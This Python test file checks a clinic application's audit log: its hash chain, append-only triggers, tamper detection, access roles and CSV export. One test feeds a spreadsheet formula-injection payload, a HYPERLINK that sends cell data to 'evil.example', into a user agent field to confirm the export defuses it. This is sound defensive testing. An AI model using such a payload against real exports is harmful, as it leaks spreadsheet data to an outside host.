"""The audit log: one entry per read or write, written with the write, append-only, chained."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, date, datetime, timedelta
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connection, transaction
from django.urls import reverse

from ketaclinic.accounts.models import Clinic
from ketaclinic.audit import services as audit_services
from ketaclinic.audit.context import Actor
from ketaclinic.audit.models import AuditChain, AuditEntry
from ketaclinic.patients.models import BodyMeasurement, Patient
from tests.conftest import measure, register, signed_in


def new_entries(before: int) -> list[AuditEntry]:
    return list(AuditEntry.objects.order_by("id").filter(id__gt=before))


def last_id() -> int:
    return AuditEntry.objects.order_by("-id").values_list("id", flat=True).first() or 0


def edit_data(patient: Patient, **changes: str) -> dict[str, str]:
    """The edit form as the browser would post it for `patient`, with `changes`."""
    data = {
        name: "" if getattr(patient, name) is None else str(getattr(patient, name))
        for name in (
            "given_name",
            "family_name",
            "preferred_name",
            "sex_at_birth",
            "gender_identity",
            "phone",
            "email",
            "address_line1",
            "address_line2",
            "city",
            "state",
            "postal_code",
            "emergency_contact_name",
            "emergency_contact_phone",
            "emergency_contact_relationship",
            "referring_clinician",
            "referring_clinician_contact",
            "status",
        )
    }
    data["date_of_birth"] = patient.date_of_birth.isoformat()
    data["diagnosis_codes_text"] = ", ".join(patient.diagnosis_codes)
    data.update(changes)
    return data


# --- one entry per read and per write ------------------------------------------------------------


def test_one_chart_view_adds_exactly_one_read_entry(world):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    before = last_id()
    response = signed_in(world.prescriber).get(reverse("patients:chart", args=[patient.pk]))
    assert response.status_code == 200
    assert [(e.action, e.object_type, e.patient_id, e.actor_id) for e in new_entries(before)] == [
        ("read", "patient_chart", patient.pk, world.prescriber.pk)
    ]


def test_an_edit_adds_one_update_entry_naming_the_changed_fields(world):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    before = last_id()
    response = signed_in(world.nurse).post(
        reverse("patients:edit", args=[patient.pk]),
        edit_data(patient, phone="555-999-0000", city="Shelbyville"),
    )
    assert response.status_code == 302
    entries = new_entries(before)
    assert [(e.action, e.object_type, e.patient_id) for e in entries] == [
        ("update", "patient", patient.pk)
    ]
    assert sorted(entries[0].detail["fields"]) == ["city", "phone"]
    # Names only, never the values (the edit history holds those).
    assert "555-999-0000" not in str(entries[0].detail)
    assert entries[0].request_id and entries[0].ip == "127.0.0.1"


def test_a_failed_edit_adds_no_entry_and_changes_nothing(world):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    stored_before = Patient.objects.filter(pk=patient.pk).values().get()
    history_before = patient.history_records.count()
    before = last_id()
    future = (date.today() + timedelta(days=400)).isoformat()
    response = signed_in(world.nurse).post(
        reverse("patients:edit", args=[patient.pk]),
        edit_data(patient, date_of_birth=future, phone="555-999-0000"),
    )
    assert response.status_code == 200
    assert "cannot be in the future" in response.content.decode()
    assert new_entries(before) == []
    assert Patient.objects.filter(pk=patient.pk).values().get() == stored_before
    assert patient.history_records.count() == history_before


def test_registering_and_measuring_add_one_create_entry_each(world):  # type: ignore[no-untyped-def]
    before = last_id()
    patient = register(world.clinic_a, world.nurse)
    measurement = measure(patient, world.nurse)
    assert [(e.action, e.object_type, e.object_id) for e in new_entries(before)] == [
        ("create", "patient", str(patient.pk)),
        ("create", "body_measurement", str(measurement.pk)),
    ]


def fail_just_after_the_audit_write(monkeypatch) -> list[AuditEntry]:  # type: ignore[no-untyped-def]
    """Make the next write fail just after its audit entry is stored, inside its transaction."""
    real_record = audit_services.record
    written: list[AuditEntry] = []

    def record_then_fail(*args, **kwargs):  # type: ignore[no-untyped-def]
        written.append(real_record(*args, **kwargs))
        raise RuntimeError("the disk filled up")

    monkeypatch.setattr(audit_services, "record", record_then_fail)
    return written


def chain_state(world) -> tuple:  # type: ignore[no-untyped-def]
    head = AuditChain.objects.filter(clinic=world.clinic_a).values_list(
        "last_sequence", "last_hash"
    )
    return AuditEntry.objects.count(), tuple(head)


def test_a_registration_that_fails_after_its_audit_entry_leaves_neither(world, monkeypatch):  # type: ignore[no-untyped-def]
    register(world.clinic_a, world.nurse, family_name="Before")  # the chain exists already
    state = chain_state(world)
    sequence = Clinic.objects.get(pk=world.clinic_a.pk).next_mrn_sequence
    written = fail_just_after_the_audit_write(monkeypatch)
    with pytest.raises(RuntimeError, match="disk filled up"):
        register(world.clinic_a, world.nurse, family_name="Doomed")
    assert len(written) == 1  # the entry was written, then rolled back with the row
    assert not AuditEntry.objects.filter(pk=written[0].pk).exists()
    assert not Patient.objects.filter(family_name="Doomed").exists()
    assert not Patient.history.filter(family_name="Doomed").exists()
    assert chain_state(world) == state
    assert Clinic.objects.get(pk=world.clinic_a.pk).next_mrn_sequence == sequence
    monkeypatch.undo()
    call_command("audit", "verify", stdout=io.StringIO())


def test_a_measurement_that_fails_after_its_audit_entry_leaves_neither(world, monkeypatch):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    state = chain_state(world)
    written = fail_just_after_the_audit_write(monkeypatch)
    with pytest.raises(RuntimeError, match="disk filled up"):
        measure(patient, world.nurse, weight="88.8")
    assert len(written) == 1
    assert not AuditEntry.objects.filter(pk=written[0].pk).exists()
    assert not BodyMeasurement.objects.filter(patient=patient).exists()
    assert chain_state(world) == state
    monkeypatch.undo()
    call_command("audit", "verify", stdout=io.StringIO())


# --- the hash chain ----------------------------------------------------------------------------


@pytest.fixture
def chain(world) -> list[AuditEntry]:  # type: ignore[no-untyped-def]
    """A few entries of every kind in clinic A (and one in clinic B), oldest first."""
    patient = register(world.clinic_a, world.nurse)
    measure(patient, world.nurse)
    nurse = signed_in(world.nurse)
    nurse.get(reverse("patients:chart", args=[patient.pk]))
    nurse.post(reverse("patients:edit", args=[patient.pk]), edit_data(patient, phone="555-1"))
    signed_in(world.prescriber).get(reverse("patients:chart", args=[patient.pk]))
    register(world.clinic_b, world.prescriber_b)
    entries = list(AuditEntry.objects.filter(clinic=world.clinic_a).order_by("sequence"))
    assert len(entries) >= 5
    return entries


@contextmanager
def append_only_triggers_off(*, deletes: bool = False) -> Iterator[None]:
    """What someone with direct database access could do. DDL is transactional on both
    databases, so the test's rollback puts the triggers back."""
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute("DROP TRIGGER audit_entry_no_update")
            if deletes:
                cursor.execute("DROP TRIGGER audit_entry_no_delete")
        elif connection.vendor == "postgresql":
            # Rows written in this transaction still have deferred foreign-key checks queued,
            # and PostgreSQL will not ALTER a table with pending trigger events: run them now.
            cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
            cursor.execute("ALTER TABLE audit_auditentry DISABLE TRIGGER audit_entry_append_only")
            cursor.execute("SET CONSTRAINTS ALL DEFERRED")
        else:  # pragma: no cover
            pytest.fail(f"no append-only trigger known for {connection.vendor}")
    yield


def verify_fails() -> str:
    with pytest.raises(CommandError) as failure:
        call_command("audit", "verify", stdout=io.StringIO())
    return str(failure.value)


def test_verify_passes_on_an_intact_chain(chain):  # type: ignore[no-untyped-def]
    out = io.StringIO()
    call_command("audit", "verify", stdout=out)
    assert "intact" in out.getvalue() and f"{AuditEntry.objects.count()} entries" in out.getvalue()


def tampered_value(field: str, entry: AuditEntry, world):  # type: ignore[no-untyped-def]
    return {
        "reason": entry.reason + "nothing to see here",
        "actor": world.staff_a["auditor"]
        if entry.actor_id != world.staff_a["auditor"].pk
        else world.nurse,
        "at": entry.at - timedelta(seconds=1),
        "object_id": entry.object_id + "0",
        "detail": {"fields": ["nothing"]},
        "patient_id": (entry.patient_id or 0) + 1000,
        "action": "read" if entry.action != "read" else "update",
    }[field]


@pytest.mark.parametrize("position", ["middle", "last"])
@pytest.mark.parametrize(
    "field", ["reason", "actor", "at", "object_id", "detail", "patient_id", "action"]
)
def test_verify_names_any_changed_entry(chain, world, field, position):  # type: ignore[no-untyped-def]
    entry = chain[len(chain) // 2] if position == "middle" else chain[-1]
    with append_only_triggers_off():
        changed = AuditEntry.objects.filter(pk=entry.pk).update(
            **{field: tampered_value(field, entry, world)}
        )
    assert changed == 1
    message = verify_fails()
    assert f"audit entry {entry.pk} " in message
    assert "changed" in message


def test_verify_catches_a_row_rewritten_with_a_fresh_hash(chain, world):  # type: ignore[no-untyped-def]
    entry, following = chain[2], chain[3]
    entry.reason = "rewritten"
    new_hash = audit_services.compute_hash(entry.previous_hash, entry)
    with append_only_triggers_off():
        AuditEntry.objects.filter(pk=entry.pk).update(reason="rewritten", entry_hash=new_hash)
    assert f"audit entry {following.pk} " in verify_fails()


def test_verify_catches_the_last_row_rewritten_with_a_fresh_hash(chain, world):  # type: ignore[no-untyped-def]
    entry = chain[-1]
    entry.reason = "rewritten"
    new_hash = audit_services.compute_hash(entry.previous_hash, entry)
    with append_only_triggers_off():
        AuditEntry.objects.filter(pk=entry.pk).update(reason="rewritten", entry_hash=new_hash)
    assert f"audit entry {entry.pk} " in verify_fails()


@pytest.mark.parametrize("position", ["first", "middle", "last"])
def test_verify_catches_a_deleted_entry(chain, position):  # type: ignore[no-untyped-def]
    index = {"first": 0, "middle": len(chain) // 2, "last": -1}[position]
    with append_only_triggers_off(deletes=True), connection.cursor() as cursor:
        cursor.execute("DELETE FROM audit_auditentry WHERE id = %s", [chain[index].pk])
    message = verify_fails()
    assert "removed" in message
    if position != "last":
        assert f"audit entry {chain[index + 1].pk} " in message


def test_the_database_refuses_to_update_or_delete_audit_entries(chain):  # type: ignore[no-untyped-def]
    entry = chain[1]
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEntry.objects.filter(pk=entry.pk).update(reason="changed")
    with pytest.raises(DatabaseError), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("DELETE FROM audit_auditentry WHERE id = %s", [entry.pk])
    with pytest.raises(RuntimeError):
        entry.save()
    with pytest.raises(RuntimeError):
        entry.delete()
    assert AuditEntry.objects.get(pk=entry.pk).reason == entry.reason
    call_command("audit", "verify", stdout=io.StringIO())


def test_the_hash_covers_the_canonical_json_with_the_sequence_filled_in(world):  # type: ignore[no-untyped-def]
    """PostgreSQL fills the sequence into the split payload: it must be the same JSON."""
    import json

    entry = AuditEntry(
        clinic=world.clinic_a,
        sequence=1234567,
        at=datetime(2026, 1, 2, 3, 4, 5, 6789, tzinfo=UTC),
        actor=world.nurse,
        patient_id=42,
        action="update",
        object_type="patient",
        object_id="42",
        ip="10.0.0.1",
        user_agent='Mozilla "quoted" ünïcode',
        request_id="r1",
        reason="sequence:0 \"sequence\":1",
        detail={"sequence": 0, "fields": ["phone"], "z": {"b": 1, "a": "é"}},
    )
    whole = json.dumps(
        {
            "clinic": entry.clinic_id,
            "sequence": entry.sequence,
            "at": entry.at.isoformat(timespec="microseconds"),
            "actor": entry.actor_id,
            "patient": entry.patient_id,
            "action": entry.action,
            "object_type": entry.object_type,
            "object_id": entry.object_id,
            "ip": entry.ip,
            "user_agent": entry.user_agent,
            "request_id": entry.request_id,
            "reason": entry.reason,
            "detail": entry.detail,
        },
        sort_keys=True,
        separators=(",", ":"),
        default=str,
    )
    assert audit_services.canonical_payload(entry) == whole
    assert whole.isascii()


def test_entries_with_every_kind_of_value_verify(world):  # type: ignore[no-untyped-def]
    """What the database stores hashes the same as what record() hashed (both databases)."""
    actor = Actor(
        user=None,
        clinic=world.clinic_a,
        ip="2001:0db8:0000:0000:0000:0000:0000:0001",
        user_agent="agent ünïcode \"q\" 'single'",
        request_id="req-1",
    )
    written = [
        audit_services.record(
            actor, "override", "dose", 7, patient_id=3, reason="Reason: “why”", detail={"n": 1.5}
        ),
        audit_services.record(Actor.system(world.clinic_a), "read", "report"),
        audit_services.record(actor, "export", "audit_log", detail={"rows": 10, "q": {"a": None}}),
    ]
    stored = list(AuditEntry.objects.filter(pk__in=[e.pk for e in written]).order_by("sequence"))
    assert [e.sequence for e in stored] == [e.sequence for e in written]
    assert [e.entry_hash for e in stored] == [e.entry_hash for e in written]
    assert stored[1].previous_hash == stored[0].entry_hash
    call_command("audit", "verify", stdout=io.StringIO())


@pytest.mark.skipif(
    connection.vendor == "sqlite",
    reason="SQLite's in-memory test database takes one writer at a time; PostgreSQL runs this",
)
@pytest.mark.postgres_only
@pytest.mark.django_db(transaction=True)
def test_concurrent_appends_form_one_unbroken_chain(world):  # type: ignore[no-untyped-def]
    import threading

    workers, each = 8, 15
    barrier = threading.Barrier(workers)
    errors: list[BaseException] = []

    def work(n: int) -> None:
        try:
            clinic = Clinic.objects.get(pk=world.clinic_a.pk)
            actor = Actor.system(clinic, user=world.nurse, label=f"thread {n}")
            barrier.wait(timeout=10)
            for i in range(each):
                if i % 3 == 0:  # inside a caller's transaction, as writes do
                    with transaction.atomic():
                        audit_services.record(actor, "update", "thing", i, patient_id=n)
                else:  # on its own, as page views do
                    audit_services.record_read(actor, "patient_chart", n, patient_id=n)
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=work, args=(n,)) for n in range(workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert errors == []
    sequences = list(
        AuditEntry.objects.filter(clinic=world.clinic_a)
        .order_by("sequence")
        .values_list("sequence", flat=True)
    )
    assert sequences == list(range(1, len(sequences) + 1))
    assert len(sequences) >= workers * each
    out = io.StringIO()
    call_command("audit", "verify", stdout=out)
    assert "intact" in out.getvalue()


# --- the viewer and the export ---------------------------------------------------------------


@pytest.fixture
def dated_entries(world, monkeypatch):  # type: ignore[no-untyped-def]
    """Entries at chosen times: two on 9 March in New York (one of them 10 March in UTC)."""
    first = register(world.clinic_a, world.nurse, given_name="First")
    second = register(world.clinic_a, world.nurse, given_name="Second")
    times = iter(
        [
            datetime(2024, 3, 9, 15, 0, tzinfo=UTC),
            datetime(2024, 3, 10, 3, 0, tzinfo=UTC),  # 22:00 on the 9th in New York
            datetime(2024, 3, 11, 15, 0, tzinfo=UTC),
            datetime(2024, 3, 12, 15, 0, tzinfo=UTC),
        ]
    )
    nurse = Actor.system(world.clinic_a, user=world.nurse, label="test")
    prescriber = Actor.system(world.clinic_a, user=world.prescriber, label="test")
    with monkeypatch.context() as m:
        m.setattr(audit_services, "timezone", SimpleNamespace(now=lambda: next(times)))
        made = [
            audit_services.record_read(nurse, "patient_chart", first.pk, patient_id=first.pk),
            audit_services.record_read(prescriber, "patient_chart", first.pk, patient_id=first.pk),
            audit_services.record_read(nurse, "patient_chart", second.pk, patient_id=second.pk),
            audit_services.record_read(
                prescriber, "patient_chart", second.pk, patient_id=second.pk
            ),
        ]
    return SimpleNamespace(first=first, second=second, entries=made)


def listed(response) -> list[int]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    return [e.pk for e in response.context["page"].object_list]


def test_the_viewer_filters_by_patient_actor_and_clinic_dates(world, dated_entries):  # type: ignore[no-untyped-def]
    client = signed_in(world.staff_a["auditor"])
    e = dated_entries.entries
    by_patient = listed(client.get(reverse("audit:log"), {"patient": dated_entries.second.pk}))
    assert set(by_patient) >= {e[2].pk, e[3].pk}
    assert (
        AuditEntry.objects.filter(pk__in=by_patient)
        .exclude(patient_id=dated_entries.second.pk)
        .count()
        == 0
    )
    by_actor = listed(client.get(reverse("audit:log"), {"actor": world.prescriber.pk}))
    assert set(by_actor) == {e[1].pk, e[3].pk}
    on_the_ninth = listed(
        client.get(reverse("audit:log"), {"date_from": "2024-03-09", "date_to": "2024-03-09"})
    )
    assert on_the_ninth == [e[1].pk, e[0].pk]  # newest first
    from_the_eleventh = listed(client.get(reverse("audit:log"), {"date_from": "2024-03-11"}))
    assert e[2].pk in from_the_eleventh and e[1].pk not in from_the_eleventh
    combined = listed(
        client.get(
            reverse("audit:log"),
            {"patient": dated_entries.first.pk, "actor": world.nurse.pk, "date_to": "2024-03-10"},
        )
    )
    assert combined == [e[0].pk]


def test_the_viewer_refuses_an_end_date_before_the_start(world):  # type: ignore[no-untyped-def]
    response = signed_in(world.staff_a["auditor"]).get(
        reverse("audit:log"), {"date_from": "2024-03-09", "date_to": "2024-03-01"}
    )
    assert response.status_code == 200
    assert response.context["page"] is None
    assert "The end date is before the start date." in response.content.decode()


def test_the_viewer_paginates(world):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    actor = Actor.system(world.clinic_a, user=world.nurse, label="test")
    for _ in range(119):
        audit_services.record_read(actor, "patient_chart", patient.pk, patient_id=patient.pk)
    assert AuditEntry.objects.filter(clinic=world.clinic_a).count() == 120
    client = signed_in(world.staff_a["clinic_admin"])
    first = client.get(reverse("audit:log"))
    assert len(listed(first)) == 50
    assert "Page 1 of 3" in first.content.decode()
    last = client.get(reverse("audit:log"), {"patient": patient.pk, "page": 3})
    assert len(listed(last)) == 20
    # The pager keeps the filter.
    assert f"patient={patient.pk}&amp;page=2" in last.content.decode()
    pages = [set(listed(client.get(reverse("audit:log"), {"page": n}))) for n in (1, 2, 3)]
    assert len(set().union(*pages)) == 120


def test_the_csv_export_streams_every_matching_row_and_is_itself_audited(world, dated_entries):  # type: ignore[no-untyped-def]
    client = signed_in(world.staff_a["clinic_admin"])
    before = last_id()
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["sequence", "at_utc", "actor"]
    exports = [e for e in new_entries(before) if e.action == "export"]
    assert len(exports) == 1 and exports[0].actor_id == world.staff_a["clinic_admin"].pk
    clinic_a_entries = AuditEntry.objects.filter(clinic=world.clinic_a)
    assert sorted(int(r[0]) for r in rows[1:]) == sorted(
        clinic_a_entries.values_list("sequence", flat=True)
    )

    filtered = client.get(reverse("audit:export"), {"patient": dated_entries.first.pk})
    rows = list(csv.reader(io.StringIO(b"".join(filtered.streaming_content).decode())))
    assert {r[3] for r in rows[1:]} == {str(dated_entries.first.pk)}
    export = AuditEntry.objects.filter(action="export").order_by("-id").first()
    assert export is not None and export.detail["patient"] == dated_entries.first.pk


def test_the_csv_export_defuses_spreadsheet_formulas(world):  # type: ignore[no-untyped-def]
    # The user agent comes from the browser, the patient portal's included: a value such as
    # "=HYPERLINK(...)" must reach the spreadsheet as text, not as a formula.
    actor = Actor(
        user=None,
        clinic=world.clinic_a,
        ip="203.0.113.9",
        user_agent='=HYPERLINK("https://evil.example/?"&A1,"click")',
    )
    audit_services.record(actor, "read", "portal", "", reason="+SUM(1,2)")
    audit_services.record(actor, "read", "portal", "", reason="@cmd", detail={})
    response = signed_in(world.staff_a["auditor"]).get(reverse("audit:export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")" in cells
    assert "'+SUM(1,2)" in cells and "'@cmd" in cells


def test_the_csv_export_refuses_a_bad_filter_without_auditing_it(world):  # type: ignore[no-untyped-def]
    before = last_id()
    response = signed_in(world.staff_a["auditor"]).get(reverse("audit:export"), {"patient": "x"})
    assert response.status_code == 400
    assert new_entries(before) == []


def test_the_chart_lists_who_viewed_it(world):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    signed_in(world.nurse).get(reverse("patients:chart", args=[patient.pk]))
    signed_in(world.staff_a["front_desk"]).get(reverse("patients:chart", args=[patient.pk]))
    body = (
        signed_in(world.prescriber)
        .get(reverse("patients:chart", args=[patient.pk]))
        .content.decode()
    )
    viewers = body[body.index('id="chart-viewers"') :]
    viewers = viewers[: viewers.index("</table>")]
    assert world.nurse.display_name in viewers
    assert world.staff_a["front_desk"].display_name in viewers
    assert world.staff_a["auditor"].display_name not in viewers
    # Each visit is listed from the next view of the chart on.
    again = signed_in(world.nurse).get(reverse("patients:chart", args=[patient.pk]))
    assert world.prescriber.display_name in again.content.decode()


def test_auditors_and_clinic_admins_can_read_the_log(world):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    for role in ("auditor", "clinic_admin"):
        response = signed_in(world.staff_a[role]).get(reverse("audit:log"))
        assert response.status_code == 200
        assert f'href="/patients/{patient.pk}/"' in response.content.decode()


@pytest.mark.parametrize("role", ["nurse", "prescriber", "front_desk"])
def test_other_roles_may_not_read_or_export_the_log(world, role):  # type: ignore[no-untyped-def]
    register(world.clinic_a, world.nurse)
    client = signed_in(world.staff_a[role])
    before = last_id()
    assert client.get(reverse("audit:log")).status_code == 403
    assert client.get(reverse("audit:export")).status_code == 403
    assert new_entries(before) == []


def test_clinic_b_sees_none_of_clinic_a_s_log(world):  # type: ignore[no-untyped-def]
    patient = register(world.clinic_a, world.nurse)
    response = signed_in(world.admin_b).get(reverse("audit:log"), {"patient": patient.pk})
    assert listed(response) == []
    export = signed_in(world.admin_b).get(reverse("audit:export"))
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    # Only clinic B's own entry: the export it just made.
    assert [r[4] for r in rows[1:]] == ["export"]
